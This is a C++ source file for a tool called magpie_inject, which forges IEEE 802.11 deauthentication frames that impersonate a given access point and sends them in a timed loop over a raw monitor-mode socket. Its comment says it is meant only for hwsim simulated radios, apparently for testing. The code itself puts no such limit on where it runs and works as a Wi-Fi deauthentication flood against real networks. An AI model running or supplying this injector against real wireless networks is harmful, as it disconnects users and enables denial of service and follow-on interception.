// Frames in the name of another, over a monitor interface: what an attacker would send. For radios of hwsim alone.
//
//   magpie_inject INTERFACE deauthentications BSSID COUNT MILLISECONDS_BETWEEN

#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <sys/socket.h>
#include <unistd.h>

#include <array>
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string_view>
#include <thread>

namespace {

constexpr std::size_t radiotap_size = 8;
using Address = std::array<unsigned, 6>;

bool read_address(const char* text, Address& address) {
    return std::sscanf(text, "%2x:%2x:%2x:%2x:%2x:%2x", &address[0], &address[1], &address[2], &address[3], &address[4],
                       &address[5]) == 6;
}

/// Deauthentication of everybody, reason 7 (IEEE 802.11-2020 9.3.3.12), behind a radiotap header without fields.
std::array<std::uint8_t, radiotap_size + 26> deauthentication(const Address& bssid, unsigned sequence) {
    std::array<std::uint8_t, radiotap_size + 26> frame{0, 0, radiotap_size, 0, 0, 0, 0, 0, 0xc0};
    for (std::size_t i = 0; i < 6; ++i) {
        frame[radiotap_size + 4 + i] = 0xff;
        frame[radiotap_size + 10 + i] = static_cast<std::uint8_t>(bssid[i]);
        frame[radiotap_size + 16 + i] = static_cast<std::uint8_t>(bssid[i]);
    }
    frame[radiotap_size + 22] = static_cast<std::uint8_t>(sequence << 4U);
    frame[radiotap_size + 23] = static_cast<std::uint8_t>(sequence >> 4U);
    frame[radiotap_size + 24] = 7;
    return frame;
}

}  // namespace

int main(int argc, char** argv) {
    Address bssid{};
    if (argc != 6 || std::string_view(argv[2]) != "deauthentications" || !read_address(argv[3], bssid)) {
        std::fputs("usage: magpie_inject INTERFACE deauthentications BSSID COUNT MILLISECONDS_BETWEEN\n", stderr);
        return 2;
    }
    const int line = ::socket(AF_PACKET, SOCK_RAW, 0);
    sockaddr_ll to{};
    to.sll_family = AF_PACKET;
    to.sll_ifindex = static_cast<int>(::if_nametoindex(argv[1]));
    if (line < 0 || ::bind(line, reinterpret_cast<const sockaddr*>(&to), sizeof(to)) != 0) {
        std::perror(argv[1]);
        return 1;
    }
    const auto pause = std::chrono::milliseconds(std::atoi(argv[5]));
    for (unsigned sequence = 0; sequence < static_cast<unsigned>(std::atoi(argv[4])); ++sequence) {
        const auto frame = deauthentication(bssid, sequence);
        if (::send(line, frame.data(), frame.size(), 0) != static_cast<ssize_t>(frame.size())) {
            std::perror("send");
            return 1;
        }
        std::this_thread::sleep_for(pause);
    }
    ::close(line);
    return 0;
}
